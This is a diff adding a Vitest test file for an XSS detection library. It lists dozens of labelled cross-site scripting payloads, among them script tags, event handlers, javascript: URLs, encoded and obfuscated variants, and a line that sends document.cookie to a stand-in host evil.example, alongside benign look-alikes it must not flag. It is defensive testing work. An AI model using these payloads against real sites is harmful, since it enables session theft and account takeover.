@@ -1,0 +1,161 @@
+import { describe, expect, it } from 'vitest';
+import { compact, decode } from './decode.js';
+import { xss } from './index.js';
+
+// Hand-written examples only (the corpus in /work/shared is for measuring, not for tests).
+
+describe('xss: attacks are recognised', () => {
+  it.each([
+    ['<script>alert(1)</script>', 'script-tag'],
+    ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'script-tag'],
+    ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">go()</x:script>', 'script-tag'],
+    ['<iframe src="//evil.example">', 'iframe-tag'],
+    ['<object data="x.swf"></object>', 'object-tag'],
+    ['<embed src=x.swf>', 'embed-tag'],
+    ['<base href="//evil.example/">', 'base-tag'],
+    ['<img src=x onerror=alert(1)>', 'event-handler'],
+    ['<svg/onload=confirm(document.domain)>', 'event-handler'],
+    ['<details open ontoggle="fetch(\'//e.example\')">', 'event-handler'],
+    ['<my-widget onpointerenter=steal()>hi</my-widget>', 'event-handler'],
+    ['<body onload\x0c=go()>', 'event-handler'],
+    ['<a href="javascript:alert(document.cookie)">win</a>', 'script-url'],
+    ['<a href="  JaVa\tScRiPt:top.go()">x</a>', 'script-url'],
+    ['<a href="&#106;&#x61;vascript&colon;go()">x</a>', 'script-url'],
+    ['<a href="&#0000106avascript:go()">x</a>', 'script-url'],
+    ['<form><button formaction="//evil.example">go</button></form>', 'active-attribute'],
+    ['<iframe srcdoc="&lt;b&gt;hi">', 'srcdoc'],
+    ['<p style="width: expression(go())">', 'css-script'],
+    ['<p style="x:ex/**/pression(go())">', 'css-script'],
+    ['<p style="x:expression\\28go()\\29">', 'css-script'],
+    ['<a href="data:text/html;base64,PGI+aGk8L2I+">x</a>', 'data-url'],
+    ['"><svg onload=go()>', 'event-handler'],
+    ['" onmouseover="go()', 'attribute-breakout'],
+    ["' autofocus onfocus='go()", 'attribute-breakout'],
+    ['x" type=image src=y onerror=go() "', 'attribute-breakout'],
+    ['javascript:go(1)', 'script-url'],
+    ['vbscript:msgbox(1)', 'script-url'],
+    ["';go(1)//", 'js-string-breakout'],
+    ['"-go(1)-"', 'js-string-breakout'],
+    ["\\';top['al'+'ert'](1);//", 'js-string-breakout'],
+    ['</script><script>go()</script>', 'script-tag'],
+    ['</script>', 'closing-tag-breakout'],
+    ['${alert(document.domain)}', 'template-injection'],
+    ["{{constructor.constructor('go()')()}}", 'template-injection'],
+    ['<!--<img src="--><img src=x onerror=go()//">', 'event-handler'],
+    ['<![CDATA[<]]>script>go()<![CDATA[<]]>/script>', 'script-tag'],
+    ['\\u003cimg src=x onerror=go()\\u003e', 'event-handler'],
+    ['\\x3cscript\\x3ego()\\x3c/script\\x3e', 'script-tag'],
+    ['&amp;lt;script&amp;gt;go()', 'script-tag'],
+    ['<scr\0ipt>go()</scr\0ipt>', 'script-tag'],
+    ['<animate attributeName=onbegin to=go() />', 'active-attribute'],
+    ['<?import namespace="t" implementation="#default#x">', 'xml-instruction'],
+    ['\uff1cscript\uff1ego()\uff1c/script\uff1e', 'script-tag'],
+    ['+ADw-script+AD4-go()+ADw-/script+AD4-', 'script-tag'],
+    ['q=x;onfocus=go(1)', 'event-handler'],
+    ['"autofocus/onfocus=go()//', 'attribute-breakout'],
+    ['onerror=go;throw 1', 'event-handler'],
+    ["'}go(1);{'", 'js-string-breakout'],
+    ["';document.location='//evil.example/?'+document.cookie;//", 'js-string-breakout'],
+    ['expression(go())', 'css-script'],
+    ['[].map.call`${go}1`', 'tagged-template-call'],
+    ['(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]', 'jsfuck'],
+    ['&{go(1)};', 'js-entity'],
+  ])('%j → %s', (payload, reason) => {
+    const d = xss.detect(payload);
+    expect(d, payload).toBeDefined();
+    expect(d?.reason).toBe(reason);
+    expect(d?.detector).toBe('xss');
+    expect(d!.confidence).toBeGreaterThanOrEqual(0.5);
+    expect(d!.confidence).toBeLessThanOrEqual(1);
+    expect(d!.fragment.length).toBeLessThanOrEqual(64);
+  });
+});
+
+describe('xss: benign look-alikes pass', () => {
+  it.each([
+    'I <3 you',
+    'a < b and c > d',
+    'x<y',
+    '<= 5',
+    'if (a <b) {}',
+    // Decided: plain formatting tags without handlers or script URLs are not XSS at paranoia level 1.
+    'use the <b> tag',
+    '<p>Hello <i>world</i>, see <a href="https://example.org/docs">the docs</a></p>',
+    '<img src="https://cdn.example/cat.png" alt="a cat">',
+    'email me at a@b.com',
+    'function names like onload in prose',
+    'the onclick handler fires once',
+    'price > 10 <cheap>',
+    '😀 🎉 <3',
+    '2<3>1',
+    'https://example.org/search?q=cats&page=2',
+    'call foo(bar) then baz()',
+    'regular expression (regex) tutorial',
+    "it's fine; really (mostly)",
+    "O'Brien, Dublin",
+    'JavaScript: The Good Parts',
+    'javascript:void(0)',
+    'javascript:;',
+    'Price: $5 {each}',
+    'Hello ${name}',
+    "l'onboarding=fini",
+    'onsale=yes',
+    'expression (math) editor',
+    "It's a 'test' - run(1)",
+    'see s.src = "//cdn.example/x.js" in the docs',
+    'tom & jerry &amp; friends',
+    '{"a":"b","c":[1,2]}',
+    'SELECT * FROM t WHERE a <> b',
+    'background: url(data:image/png;base64,iVBORw0KGgo=)',
+    '<META',
+    '<svg:svg',
+    '',
+  ])('%j', (value) => {
+    expect(xss.detect(value)).toBeUndefined();
+  });
+});
+
+describe('xss: decoding', () => {
+  it('decodes named, decimal, hex references, with and without semicolons', () => {
+    expect(decode('&lt;a&gt;&#60;&#x3C;&#0060&colon;&Tab;')).toBe('<a><<<:\t');
+  });
+  it('decodes JS escapes', () => {
+    expect(decode('\\u003c\\x3c\\u{3c}')).toBe('<<<');
+  });
+  it('decodes at most two layers', () => {
+    expect(decode('&amp;amp;lt;')).toBe('&lt;');
+  });
+  it('leaves unknown references and lone backslashes alone', () => {
+    expect(decode('&bogus; \\q \\u12 &#;')).toBe('&bogus; \\q \\u12 &#;');
+  });
+  it('compacts whitespace, controls, CSS comments and CSS escapes', () => {
+    expect(compact('ja va\tscript:')).toBe('javascript:');
+    expect(compact('ex/* c */pression\\28')).toBe('expression(');
+    expect(compact('unterminated /* comment')).toBe('unterminated');
+  });
+});
+
+describe('xss: bounded work', () => {
+  const huge = (unit: string): string => unit.repeat(Math.ceil((1 << 20) / unit.length));
+  it.each([
+    ['many tag openers', '<a '],
+    ['unclosed quotes', '<a x="'],
+    ['handler-like words', 'ononon'],
+    ['quotes and operators', "';"],
+    ['template openers', '${a'],
+    ['entities', '&#x3c;'],
+    ['escapes', '\\u003c'],
+    ['comments', '/*'],
+    ['breakout prefix', '" x=y'],
+    ['glued attribute names', '"abcdefghij'],
+    ['separated attribute names', '" ab=c/'],
+  ])('1 MiB of %s finishes quickly', (_name, unit) => {
+    const input = huge(unit);
+    const t0 = performance.now();
+    xss.detect(input);
+    expect(performance.now() - t0).toBeLessThan(1500);
+  });
+  it('still finds an attack at the end of a large benign value', () => {
+    expect(xss.detect(`${'lorem ipsum '.repeat(50_000)}<img src=x onerror=go()>`)?.reason).toBe('event-handler');
+  });
+});
